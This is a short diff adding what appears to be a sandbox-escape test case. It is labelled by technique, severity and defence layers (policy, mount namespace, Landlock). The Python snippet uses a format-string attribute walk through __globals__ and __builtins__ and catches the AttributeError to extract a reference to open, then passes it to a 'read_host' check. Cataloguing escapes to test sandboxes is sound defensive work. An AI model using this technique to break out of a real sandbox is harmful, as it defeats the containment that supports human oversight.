@@ -1,0 +1,11 @@
+# technique: a format field walks attributes, and its error carries the object
+# family: A
+# severity: H
+# layers: policy, mount_namespace, landlock
+def trick():
+    try:
+        "{0.__globals__[__builtins__].open.nothing}".format(won)
+    except AttributeError as e:
+        return e.obj
+
+read_host(trick)
